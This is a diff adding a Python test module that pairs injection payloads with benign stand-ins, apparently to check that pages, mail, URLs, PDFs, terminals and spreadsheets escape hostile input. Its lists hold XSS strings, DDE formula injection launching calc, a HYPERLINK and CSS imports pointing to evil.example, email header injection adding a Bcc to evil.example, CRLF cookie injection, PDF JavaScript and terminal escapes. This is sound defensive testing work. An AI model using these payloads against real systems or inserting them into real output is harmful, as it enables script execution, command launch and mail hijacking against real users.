@@ -1,0 +1,134 @@
+"""Texts that mean something to whoever shows them: a browser, a mail program, a PDF reader, a terminal, a spreadsheet.
+And harmless ones of the same shape, beside which their output is laid."""
+
+import re
+import unicodedata
+from urllib.parse import quote
+
+# Each kind once; the longer tiers put pieces of them together.
+PAYLOADS = [
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "\"' onmouseover=alert(1) autofocus onfocus='alert(1)' x=\"",
+    "\"><svg/onload=alert(1)><a href='javascript:alert(1)'>x</a>",
+    "</title></textarea></style></script></noscript></select></template><h1>x",
+    "<!-- x --!> <!--> ]]> <![CDATA[ x ]]> <?php x ?> <!doctype x>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#60;b&#62; &#x3c;b&#x3e; &quot; &NewLine;",
+    "{{7*7}} ${7*7} #{7*7} {% raw %} <%= 7*7 %> { $merchant } {merchant} {{merchant}} %s %(x)s",
+    "first\u2028</p><b>second\u2029<i>third\u0085</i>fourth",
+    "Awa \u202e\u2066gpj.exe\u2069\u202c \u200b\u200f\ufeff<b>\u061cx</b>",
+    "x%00y%0d%0aSet-Cookie:%20a=b %3Cscript%3E %u003cb %25%33%43b \\u003cb \\x3cb",
+    "Awa\r\nBcc: evil@evil.example\r\n\r\n<b>new</b>\r\nX-Injected: yes",
+    "Awa\nContent-Type: text/html\n.\nQUIT\nRCPT TO:<evil@evil.example>",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t+HYPERLINK(\"http://evil.example\",\"x\")",
+    "-2+3+cmd|' /C calc'!A0;\"x\",\"y\"",
+    ") Tj /JS (app.alert(1)) >> endobj 9 0 obj << /OpenAction << /S /JavaScript >>",
+    "\\) Tj ET Q stream endstream endobj xref trailer %%EOF <</S/URI/URI(http://evil.example)>> \\",
+    "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext></p><style><img>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "x;}*{background:url(//evil.example)}</style><style>@import'//evil.example'",
+    "`-alert(1)-` ';alert(1)// \\';alert(1)// </script><script>alert(1)//",
+    "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u009b31m \u0008\u0008\u007f",
+    "=?utf-8?q?=0D=0ABcc:_evil@evil.example?= <evil@evil.example>, \"x\" <y@evil.example>",
+    "<b>" + "long & \"wide\" <i> " * 120,
+]  # fmt: skip
+PIECES = [
+    "<", ">", "\"", "'", "`", "&", "&lt;", "&#60;", "&#x0000003c", "</", "/>", "<!--", "-->", "--!>", "]]>", "<![CDATA[", "<?", "\\", "/", "=",
+    "script", "svg", "math", "style", "title", "textarea", "noscript", "iframe srcdoc=", "template", "select", "option", "table", "mglyph",
+    "annotation-xml encoding=text/html", "foreignObject", "desc", "xmp", "plaintext", "base href=//evil.example", "meta http-equiv=refresh content=0",
+    " onerror=", " onload=", " style=", " formaction=", "javascript:", "data:text/html,", "url(", "expression(", "@import", "alert(1)", "\r\n",
+    "\n", "\t", "\u2028", "\u202e", "\u200d", "\ufeff", "\u00a0", "\u001b[", "%0d%0a", "%3c", "{{", "}}", "${", "{ $merchant }", "(", ")", " Tj",
+    "<<", ">>", "/JS", "/OpenAction", "endobj", "endstream", "=cmd|", "+", "-", "@", "Bcc: x@evil.example", "=?utf-8?b?PGI+?=", "é", "ẞ", "漢", "\U0001f4a5", "\u0301",
+    "\ufdd0", "\ue000", "\u2215", "＜", "＞", "＂",
+]  # fmt: skip
+BREAKS = re.compile("(\r\n|[\n\r\v\f\u0085\u2028\u2029])")
+
+
+def generated(random):
+    """Pieces in a random order, one of them perhaps doubled or turned; each line has something to see."""
+    chosen = [random.choice(PIECES) for _ in range(random.randrange(2, 40))]
+    if random.random() < 0.5:
+        kind = random.choice(PAYLOADS[:-1])
+        at = random.randrange(len(kind))
+        chosen.insert(random.randrange(len(chosen)), kind[:at] + random.choice(PIECES) + kind[at:])
+    text = "".join(piece.swapcase() if random.random() < 0.1 else piece for piece in chosen)
+    parts = BREAKS.split(text)
+    # In the fashion of the list above: a line that is empty once it is clean has no counterpart.
+    return "".join(part if index % 2 else "Q" + part + "Z" for index, part in enumerate(parts))[:1900]
+
+
+UNSEEN = ("Cc", "Cf", "Zs", "Zl", "Zp")
+# To how many characters a text is cut anywhere.
+SIZES = (24, 30, 40, 50, 100, 120, 200, 255, 500, 2000)
+
+
+class Words:
+    """A text in all the shapes that fields ask for."""
+
+    def __init__(self, text):
+        self.text = text
+
+    def cut(self, most=2000):
+        assert most in SIZES
+        return self.text[:most]
+
+    def instead(self, valid):
+        """Where only one form is good: there it is refused."""
+        return self.cut(200)
+
+    def email(self, is_raw=False):
+        if is_raw:
+            return f"{self.cut(50)}@pay.example"
+        kept = "".join(letter for letter in self.cut(50) if letter in "!#$%&'*+/=?^_`{|}~-")
+        return f"{kept or 'x'}@pay.example"
+
+    def url(self, is_raw=False):
+        return "https://shop.example/thanks?x=" + (self.cut(200) if is_raw else quote(self.cut(200), safe=""))
+
+    def header(self):
+        """Without what can't stand in a header at all: the connection ends there."""
+        return re.sub(r"[\x00-\x1f\x7f]", lambda found: f"%{ord(found[0]):02x}", self.cut(500)).strip().encode()
+
+
+class Benign(Words):
+    """The same lines, each of one word that no page has by itself, and that says what it stands for."""
+
+    def cut(self, most=2000):
+        parts = BREAKS.split(super().cut(most))
+        for index in range(0, len(parts), 2):
+            if len(parts[index]) > 2:
+                parts[index] = f"Zq{chr(ord('a') + index // 2)}x{most}x"
+        return "".join(parts)
+
+    def instead(self, valid):
+        return valid
+
+    def email(self, is_raw=False):
+        return "zq.benign@pay.example"
+
+    def url(self, is_raw=False):
+        return super().url()
+
+
+class Pair:
+    """A payload and its counterpart: what a page says with the one follows from what it says with the other."""
+
+    def __init__(self, payload):
+        self.hostile, self.benign = Words(payload), Benign(payload)
+        # Pairs with the same counterpart share what is made of it.
+        self.shape = tuple(self.benign.cut(size) for size in SIZES)
+
+    def expected(self, text):
+        """A benign output, as it would be with the payload."""
+        text = text.replace(self.benign.email(), self.hostile.email())
+        return re.sub(r"Zq([a-z])x(\d+)x", self._line, text)
+
+    def _line(self, found):
+        return BREAKS.split(self.hostile.cut(int(found[2])))[::2][ord(found[1]) - ord("a")]
+
+
+def same(text):
+    """Without what draws nothing or only distance, which each output treats as it must."""
+    text = unicodedata.normalize("NFC", text)
+    return "".join(letter for letter in text if unicodedata.category(letter) not in UNSEEN and letter != "\ufffd")
